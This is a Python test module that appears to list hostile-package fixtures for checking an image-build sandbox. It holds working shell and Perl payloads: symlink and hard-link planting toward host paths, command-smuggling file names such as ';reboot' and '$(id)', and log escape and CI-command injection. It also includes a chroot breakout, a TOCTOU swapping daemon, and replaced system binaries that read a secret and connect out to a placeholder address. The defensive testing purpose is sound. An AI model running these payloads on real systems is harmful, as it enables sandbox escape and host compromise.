"""What a package script leaves in the image for the build to fall over when it cleans, hashes and writes it."""

from __future__ import annotations

from tests.walls.attack import Attack

ATTACKS = (
    Attack(
        name="planted-links",
        about="put links to the host where cleaners remove, the build puts its temporary files, and it reads",
        shell=True,
        script=r"""
plant() { rm -rf "$2"; mkdir -p "${2%/*}"; ln -s "$1" "$2" || echo "no link at $2"; }
for path in /etc/machine-id /etc/hostname /var/lib/dbus/machine-id /root/.bash_history /var/log/dpkg.log \
    /var/log/apt/history.log /var/lib/systemd/random-seed /etc/passwd- /etc/ssh/ssh_host_a_key /usr/sbin/policy-rc.d \
    /etc/resolv.conf /var/cache/ldconfig/aux-cache /etc/apt/apt.conf.d/00buildstep /etc/motd; do
  plant "$dir/secret" "$path"
done
for path in /var/tmp /var/log/journal /var/cache/apt/archives /root/.cache/pip /var/cache/man /usr/share/doc/x \
    /usr/lib/python3/x/__pycache__ /var/cache/apt/far /var/lib/systemd; do
  plant "$dir" "$path"
done
plant "../../../../../../../../..$dir" /var/mail
plant "/proc/self/root$dir/secret" /var/log/wtmp
""",
    ),
    Attack(
        name="hard-links",
        about="make hard links of what is shown from the host, so that cleaners write through them",
        shell=True,
        script=r"""
for file in /etc/resolv.conf /run/* /run/*/* /run/*/*/* /dev/null /proc/version; do
  [ -f "$file" ] && ln "$file" "/var/log/linked-$(basename "$file")" 2>/dev/null
done
true
""",
    ),
    Attack(
        name="pipes",
        about="put pipes and sockets where a reader would wait for ever",
        script=r"""
for my $path ('/var/log/pipe.log', '/etc/hosts.pipe', '/usr/share/pipe', '/var/lib/dpkg/info/hostile.pipe', '/etc/cron.d/pipe',
        '/var/log/wtmp.1', '/usr/lib/python3/pipe.pyc', '/etc/ld.so.conf.d/pipe.conf') {
    mkdir '/usr/lib/python3'; mkdir '/etc/cron.d';
    call('mknod', "$path\0", 0010666, 0);
}
socket(my $server, AF_UNIX, SOCK_STREAM, 0);
bind($server, pack_sockaddr_un('/var/lib/attack-socket'));
""",
    ),
    Attack(
        name="names",
        about="names that are options, lines, escapes, no UTF-8, or as long as can be",
        script=r"""
mkdir '/var/lib/names';
for my $name ("new\nline", "\e[31mred\e[0m", "\e]0;title\a", "-rf", "--help", "\xff\xfe", "tab\there", ' ', '*', '$(id)',
        '`id`', "cr\rlf", 'x' x 255, "\xe2\x80\xae", 'a|b', ';reboot', '%s%n') {
    open(my $file, '>', "/var/lib/names/$name") or print "no $name: $!\n";
}
""",
    ),
    Attack(
        name="escapes",
        about="write escape sequences and CI commands to the log",
        shell=True,
        script=r"""
printf '\033]0;title\007\033[2J\033[31mred \033P+q\033\\ \302\233 31m \r hidden\n' >&3
printf '##[set-env name=X]y\n::set-env name=X::y\n##teamcity[x]\n' >&3
""",
    ),
    Attack(
        name="immutable",
        about="make files that nobody can remove or change",
        script=r"""
for my $path ('/var/lib/immutable', '/var/lib/append') {
    open(my $file, '>', $path); print $file "x";
    for my $flags (0x10, 0x20) {
        my $wanted = pack('L', $flags);
        won("the flag $flags of $path") if call('ioctl', fileno($file), 0x40086602, $wanted) == 0;
    }
}
""",
    ),
    Attack(
        name="closed",
        about="directories and files without any permission",
        shell=True,
        script=r"""
mkdir -p /var/lib/closed/below/further && echo x >/var/lib/closed/below/further/file
chmod 0 /var/lib/closed/below/further/file /var/lib/closed/below/further /var/lib/closed/below /var/lib/closed
""",
    ),
    Attack(
        name="sparse",
        about="a file of a terabyte that is a hole",
        shell=True,
        script=r"""
truncate -s 100M /var/lib/sparse
""",
    ),
    Attack(
        name="swapped",
        about="a daemon that swaps a directory for a link to the host while the build reads",
        script=r"""
mkdir '/var/lib/swapped'; mkdir '/var/lib/swapped/d';
open(my $file, '>', "/var/lib/swapped/d/secret"); print $file "own\n"; close $file;
unless (fork) {
    require POSIX; POSIX::setsid(); exit if fork;
    $0 = 'swapping-@PID@'; $SIG{TERM} = $SIG{HUP} = 'IGNORE';
    open(STDOUT, '>', '/dev/null'); open(STDERR, '>', '/dev/null');
    while (1) {
        rename '/var/lib/swapped/d', '/var/lib/swapped/own';
        symlink $dir, '/var/lib/swapped/d';
        unlink '/var/lib/swapped/d';
        rename '/var/lib/swapped/own', '/var/lib/swapped/d';
    }
}
""",
    ),
    Attack(
        name="replaced-programs",
        about="replace what the build runs in the image next: dpkg-query, apt-get, ldconfig, the shell, a preload",
        shell=True,
        script=r"""
cat >/usr/share/attack-again <<'END'
#!/usr/bin/perl
use Socket;
my $dir = '@DIR@';
chdir '/'; opendir(my $out, '.'); mkdir '/cell'; chroot '/cell'; chdir $out; chdir '..' for 1 .. 64; chroot '.';
if (open(my $file, '>', "$dir/made-by-a-replaced-program")) { print $file 'x' }
if (open(my $file, '<', "$dir/secret")) { print <$file> }
for my $address (pack_sockaddr_in(@PORT@, inet_aton('127.0.0.1')), pack_sockaddr_in(@PORT@, inet_aton('@ADDRESS@')), pack('S', AF_UNIX) . "\0@ABSTRACT@") {
    socket(my $socket, (length($address) == 16 ? AF_INET : AF_UNIX), SOCK_STREAM, 0) or next;
    local $SIG{ALRM} = sub { die };
    eval { alarm 2; if (connect($socket, $address)) { syswrite($socket, "replaced-programs: connected\n") } };
    alarm 0;
}
END
chmod 755 /usr/share/attack-again
for program in /usr/bin/dpkg-query /usr/bin/apt-get /usr/bin/apt-config /usr/bin/apt-cache /usr/bin/apt-mark /sbin/ldconfig \
    /usr/bin/env /usr/bin/id /usr/bin/dpkg-deb /usr/sbin/invoke-rc.d /usr/bin/deb-systemd-invoke /bin/true; do
  [ -e "$program" ] || continue
  mv "$program" "$program.genuine"
  printf '#!/bin/sh\n/usr/share/attack-again >>/var/lib/attack/replaced-programs 2>&1\nexec %s "$@"\n' "$program.genuine" >"$program"
  chmod 755 "$program"
done
echo /var/lib/none.so >/etc/ld.so.preload
rm /etc/ld.so.preload
""",
    ),
)
